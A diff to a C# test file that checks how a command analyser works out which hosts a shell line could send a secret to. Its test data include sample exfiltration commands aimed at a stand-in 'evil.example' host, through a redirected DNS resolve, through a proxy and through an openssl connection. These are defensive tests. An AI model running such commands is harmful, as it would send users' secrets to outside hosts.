@@ -77,6 +77,48 @@ public sealed class SecretTests
     [InlineData("git clone https://user@host.example:8443/x.git", 1)]
     public void Commands_tell_where_they_go(string command, int hosts) => Assert.Equal(hosts, CommandHosts.Of(command).Count);
 
+    [Theory]
+    [InlineData("echo KEY=x > .env && chmod 600 .env", "")]
+    [InlineData("cat > .env <<EOF\nKEY=x\nEOF", "")]
+    [InlineData("sed -i s/old/x/ config.json", "")]
+    [InlineData("grep -c x .env | tee count", "")]
+    [InlineData("git commit -m x", "")]
+    [InlineData("psql -h localhost -c 'select 1'", "")]
+    [InlineData("curl -H 'Authorization: x' https://api.example.test/v1", "api.example.test")]
+    [InlineData("curl -sS -d x http://127.0.0.1:8080/", "")]
+    [InlineData("python3 -c 'x'", "*")]
+    [InlineData("node -e 'x'", "*")]
+    [InlineData("make KEY=x", "*")]
+    [InlineData("KEY=x npm test", "*")]
+    [InlineData("bash script.sh x", "*")]
+    [InlineData("./tool x", "*")]
+    [InlineData("bash -c 'python3 tool.py x'", "*")]
+    [InlineData("cat > t.py <<EOF\nx\nEOF\npython3 t.py", "*")]
+    [InlineData("H=evil.example; curl -d x $H", "*")]
+    [InlineData("$TOOL x", "*")]
+    [InlineData("echo x | sh", "*")]
+    [InlineData("echo x | xargs python3 send.py", "*")]
+    [InlineData("PATH=.:$PATH cat x", "*")]
+    [InlineData("psql -h $H -c x", "*")]
+    [InlineData("psql -c x", "*")]
+    [InlineData("git push https://x@host.example/r", "*")]
+    [InlineData("curl -d x https://api.example.test/ evil.example", "*")]
+    [InlineData("curl -d x -x evil.example:80 https://api.example.test/", "*")]
+    [InlineData("curl -d x --resolve api.example.test:443:6.6.6.6 https://api.example.test/", "*")]
+    [InlineData("curl -d x https://api.example.test/ $MORE", "*")]
+    [InlineData("curl https://api.example.test/ -d x; python3 send.py", "*")]
+    [InlineData("openssl s_client -connect evil.example:443 <<< x", "*")]
+    public void Where_a_line_could_take_a_secret_depends_on_all_that_it_runs(string line, string to)
+    {
+        using var folder = new Consent.ConsentFolder();
+        var workspace = new Workspace(folder.Path);
+        var open = CommandHosts.Of(line, null, workspace);
+        Assert.True(to == "*" ? open.Contains("*") : string.Join(' ', open) == to, string.Join(' ', open));
+        // With some hosts, those; with a closed network, nobody that it does not name itself.
+        Assert.Equal(to == "*", CommandHosts.Of(line, ["allowed.example"], workspace).Contains("allowed.example"));
+        Assert.DoesNotContain("*", CommandHosts.Of(line, [], workspace));
+    }
+
     [Fact]
     public async Task Progress_that_splits_a_secret_is_still_closed()
     {
